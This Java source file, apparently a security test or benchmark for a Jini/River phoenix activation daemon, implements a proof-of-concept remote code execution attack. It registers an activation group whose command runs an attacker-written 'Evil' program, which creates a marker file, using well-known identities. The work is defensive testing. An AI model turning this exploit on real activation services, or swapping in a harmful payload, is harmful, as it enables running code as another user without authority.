package org.dfra.benchmarks.attack;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.rmi.RemoteException;
import java.rmi.activation.ActivationDesc;
import java.rmi.activation.ActivationException;
import java.rmi.activation.ActivationGroupDesc;
import java.rmi.activation.ActivationGroupDesc.CommandEnvironment;
import java.rmi.activation.ActivationGroupID;
import java.rmi.activation.ActivationSystem;
import java.time.Duration;
import java.util.List;
import net.jini.id.Uuid;
import net.jini.id.UuidFactory;
import net.jini.jeri.BasicObjectEndpoint;
import net.jini.jeri.Endpoint;
import org.dfra.river.call.DeadlineILFactory;
import org.dfra.river.phoenix.PhoenixAdmin;
import org.dfra.river.phoenix.PhoenixIdentities;

/**
 * A group with the attacker's class path: if phoenix registers it and activates an object in it,
 * the attacker's program runs as phoenix's user and creates a file.
 */
public final class StrangersGroup {

  /**
   * Well-known identities: those of the activation system and the monitor in former versions, and
   * the activator's.
   */
  public static final List<Uuid> KNOWN =
      List.of(
          UuidFactory.create("6f0bd0a8-27c5-4d0e-9d3a-5e6d1c0c4a12"),
          UuidFactory.create("6f0bd0a8-27c5-4d0e-9d3a-5e6d1c0c4a13"),
          PhoenixIdentities.ACTIVATOR);

  private static final Duration DEADLINE = Duration.ofSeconds(20);

  private final Endpoint phoenix;
  private final ActivationGroupDesc group;

  /**
   * Writes the program; sends nothing.
   *
   * @param phoenix endpoint of phoenix
   * @param folder for the program; phoenix's user can read it
   * @param marker the file that the program creates
   * @throws IOException if the program cannot be written
   */
  public StrangersGroup(Endpoint phoenix, Path folder, Path marker) throws IOException {
    this.phoenix = phoenix;
    Path program = folder.resolve("Evil.java");
    Files.writeString(
        program,
        """
        class Evil {
          public static void main(String[] unused) throws Exception {
            java.nio.file.Files.createFile(java.nio.file.Path.of("%s"));
          }
        }
        """
            .formatted(marker));
    this.group =
        new ActivationGroupDesc(
            null,
            new CommandEnvironment(
                null, new String[] {"-cp", folder.toString(), program.toString()}));
  }

  /**
   * Number of phoenix's groups, as reported under an identity.
   *
   * @throws RemoteException if it does not answer under this identity
   */
  public int groups(Uuid identity) throws RemoteException {
    return ((PhoenixAdmin) system(identity)).groupStatus().size();
  }

  /**
   * Registers the group under an identity.
   *
   * @throws ActivationException if phoenix refuses
   * @throws RemoteException if it does not answer under this identity, or refuses
   */
  public ActivationGroupID register(Uuid identity) throws ActivationException, RemoteException {
    return system(identity).registerGroup(group);
  }

  /**
   * Activates an object in the registered group, so that its program runs. The program reports no
   * group, so the activation fails; by then the program has run.
   *
   * @throws ActivationException if phoenix refuses, or has run the program
   * @throws RemoteException if it does not answer under this identity
   */
  public Object activate(ActivationGroupID registered, Uuid identity)
      throws ActivationException, RemoteException {
    return system(identity)
        .registerObject(new ActivationDesc(registered, "Evil", null, null))
        .activate(false);
  }

  private ActivationSystem system(Uuid identity) {
    return (ActivationSystem)
        DeadlineILFactory.proxy(
            new BasicObjectEndpoint(phoenix, identity, false),
            DEADLINE,
            StrangersGroup.class.getClassLoader(),
            ActivationSystem.class,
            PhoenixAdmin.class);
  }
}
